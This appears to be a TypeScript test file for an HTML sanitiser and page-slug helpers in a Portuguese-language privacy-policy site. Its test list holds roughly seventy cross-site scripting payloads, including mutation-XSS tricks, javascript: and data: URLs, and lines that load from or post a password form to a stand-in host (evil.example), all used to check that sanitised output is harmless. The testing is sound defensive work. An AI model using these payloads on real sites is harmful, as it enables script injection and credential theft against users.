import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { fc } from '@lavra/domain/seeded.fixture';
import { readInitialPages } from '../reference-data/initial-pages.ts';
import { sanitizePage } from './page-html.ts';
import { freeSlug, slugOf } from '../../platform/text/slug.ts';

const TEXT =
  'h[2-6]|p|br|hr|blockquote|ul|li|dl|dt|dd|strong|b|em|i|u|s|sub|sup|small|table|caption|thead|tbody|tfoot|tr';
/** Every tag that the sanitiser may return, with its attributes. */
const harmless = [
  new RegExp(`^</?(${TEXT}|ol|a|th|td)( /)?>$`),
  /^<ol start="\d+">$/,
  /^<(th|td)( (colspan|rowspan|scope)="[a-z0-9]+")+>$/,
  /^<a href="(https?:\/\/|mailto:|#|\/(?![/\\]))[^"<>]*" rel="noopener noreferrer">$/i,
];

function assertHarmless(html: string): void {
  for (const [tag] of html.matchAll(/<[^>]*>?/g))
    assert.ok(
      harmless.some((form) => form.test(tag)),
      `${tag} in ${html}`,
    );
}

const hostile: readonly string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script/x>alert(1)//',
  '<<script>alert(1)<</script>',
  '<img src=x onerror=alert(1)>',
  '<p onclick="alert(1)">a</p>',
  '<p\nonmouseover=alert(1)>a',
  '<body onload=alert(1)>',
  '<h2 onfocus=alert(1) tabindex=0 autofocus>a</h2>',
  '<a href="javascript:alert(1)">a</a>',
  '<a href=" java\nscript:alert(1)">a</a>',
  '<a href="&#106;avascript:alert(1)">a</a>',
  '<a href="JaVaScRiPt:alert(1)">a</a>',
  '<a href="javascript&colon;alert(1)">a</a>',
  '<a href="\u0001javascript:alert(1)">a</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">a</a>',
  '<a href="vbscript:msgbox(1)">a</a>',
  '<a href="//evil.example">a</a>',
  '<a href="\\\\evil.example">a</a>',
  '<a href="/\\evil.example">a</a>',
  '<a href="/\t/evil.example">a</a>',
  '<a href="https:\n//evil.example">a</a>',
  '<a href="file:///etc/passwd">a</a>',
  '<a href="blob:https://x/1">a</a>',
  '<a target="_blank" rel="opener" href="https://ok.example">a</a>',
  '<a href="https://ok.example" style="position:fixed" class="x" id="root">a</a>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>a</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><mi xlink:href="data:x,<script>alert(1)</script>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<table><svg><style><td><img src=x onerror=alert(1)></style></svg></table>',
  '<listing>&lt;img src=1 onerror=alert(1)&gt;</listing>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '<plaintext><script>alert(1)</script>',
  '<title><img src=x onerror=alert(1)></title>',
  '<textarea><script>alert(1)</script></textarea>',
  '<style>@import "//evil.example"; p{background:url(javascript:alert(1))}</style>',
  '<p style="background:url(//evil.example)">a</p>',
  '<link rel=stylesheet href=//evil.example>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src=//evil.example>',
  '<base href="//evil.example/">',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<form action="//evil.example"><input name=senha><button>ok</button></form>',
  '<template><script>alert(1)</script></template>',
  '<video><source onerror=alert(1)></video>',
  '<details open ontoggle=alert(1)>',
  '<marquee onstart=alert(1)>a</marquee>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '<!DOCTYPE x [<!ENTITY y "z">]>',
  '<p title="x" "><img src=x onerror=alert(1)>',
  '<td colspan="2&quot; onclick=alert(1)">a</td>',
  '<p/onclick=alert(1)//',
  '<a href=https://ok.example/?"onclick="alert(1)>a</a>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '<p>a',
  '</p></div></table>',
  '<b><i><p>'.repeat(2000),
  '<'.repeat(2000),
  '<a href="'.repeat(500),
];

describe('the HTML of a page', () => {
  it('keeps the elements of a legal text', () => {
    const written =
      '<h2>Título</h2><p>Um <strong>texto</strong> com <em>ênfase</em>,<br />um <a href="https://www.gov.br/anpd" rel="noopener noreferrer">link</a> ' +
      'e um <a href="mailto:dpo@exemplo.com.br" rel="noopener noreferrer">e-mail</a>.</p><ul><li>a</li></ul><ol start="3"><li>b</li></ol>' +
      '<table><caption>c</caption><thead><tr><th scope="col">d</th></tr></thead><tbody><tr><td colspan="2">e</td></tr></tbody></table><blockquote>f &amp; g &lt; h</blockquote><hr />';
    assert.equal(sanitizePage(written), written);
  });

  it('turns a first heading into a second one, and adds rel attributes to links', () => {
    assert.equal(sanitizePage('<h1>a</h1>'), '<h2>a</h2>');
    assert.equal(
      sanitizePage('<a href="https://a.example" target="_blank">a</a>'),
      '<a href="https://a.example" rel="noopener noreferrer">a</a>',
    );
    assert.equal(
      sanitizePage('<a href="/politica">a</a>'),
      '<a href="/politica" rel="noopener noreferrer">a</a>',
    );
  });

  it('keeps the text of unknown tags, and drops tags that run code or load resources', () => {
    assert.equal(sanitizePage('<div><span>a</span> <font color=red>b</font></div>'), 'a b');
    assert.equal(
      sanitizePage(
        'a<script>b</script><style>c</style><iframe>d</iframe><svg><text>e</text></svg>f',
      ),
      'af',
    );
  });

  for (const html of hostile) {
    it(`contains nothing that runs after sanitizing: ${html.slice(0, 60).replaceAll('\n', ' ')}`, () => {
      const clean = sanitizePage(html);
      assertHarmless(clean);
      assert.doesNotMatch(
        clean.replaceAll(/"[^"]*"/g, '""'),
        /<[^>]*(\bon\w+\s*=|style\s*=|srcdoc)/i,
      );
      assert.equal(sanitizePage(clean), clean);
    });
  }

  it('contains nothing that runs after sanitizing any combination of fragments', () => {
    const piece = fc.oneof(
      fc.constantFrom(
        ...hostile.filter((html) => html.length < 300),
        '<',
        '>',
        '"',
        "'",
        '--',
        '<!--',
        '</',
        '/>',
        '&lt;',
        '<p',
        '<a href=',
        '<math>',
        '<style>',
        '</style>',
      ),
      fc.string(),
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 6 }), (pieces) => {
        const clean = sanitizePage(pieces.join(''));
        assertHarmless(clean);
        assert.equal(sanitizePage(clean), clean);
      }),
      { numRuns: 1000 },
    );
  });

  it('is stable even where a dropped tag left nested paragraphs', () => {
    const clean = sanitizePage('<p>a<scr<script>ipt>alert(1)</scr</script>ipt><p>a');
    assertHarmless(clean);
    assert.equal(sanitizePage(clean), clean);
  });

  it('of the initial pages passes the sanitizer unchanged', () => {
    for (const { content } of readInitialPages()) assert.equal(sanitizePage(content), content);
  });
});

describe('the address of a page', () => {
  it('is derived from its title', () => {
    for (const [title, slug] of [
      ['Política de privacidade', 'politica-de-privacidade'],
      [' LGPD: seus direitos! ', 'lgpd-seus-direitos'],
      ['Ação & reação', 'acao-reacao'],
      ['日本', ''],
      ['--', ''],
    ] as const) {
      assert.equal(slugOf(title), slug);
    }
    assert.match(slugOf('palavra '.repeat(30)), /^[a-z0-9]+(-[a-z0-9]+)*$/);
  });

  it('gets a number when it is taken', () => {
    assert.deepEqual(
      [freeSlug('ajuda', new Set()), freeSlug('ajuda', new Set(['ajuda', 'ajuda-2']))],
      ['ajuda', 'ajuda-3'],
    );
  });
});
